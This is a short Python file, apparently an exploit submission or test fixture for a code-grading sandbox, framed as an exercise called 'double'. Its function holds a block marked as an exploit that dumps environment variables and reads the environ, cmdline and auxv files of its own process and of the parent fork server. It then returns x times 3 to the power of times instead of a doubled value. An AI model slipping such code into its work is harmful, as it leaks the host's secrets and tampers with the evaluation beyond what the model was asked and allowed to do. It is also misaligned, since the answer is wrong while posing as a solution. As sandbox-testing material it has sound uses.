"""Prints its own environment and that of the fork server, arguments included."""
# exercise: double

import contextlib
import os
from pathlib import Path


def double(x, times=1):
    ### BEGIN EXPLOIT
    print(dict(os.environ))
    for pid in ("self", os.getppid()):
        for name in ("environ", "cmdline", "auxv"):
            with contextlib.suppress(Exception):
                print(Path(f"/proc/{pid}/{name}").read_bytes())
    ### END EXPLOIT
    return x * 3**times
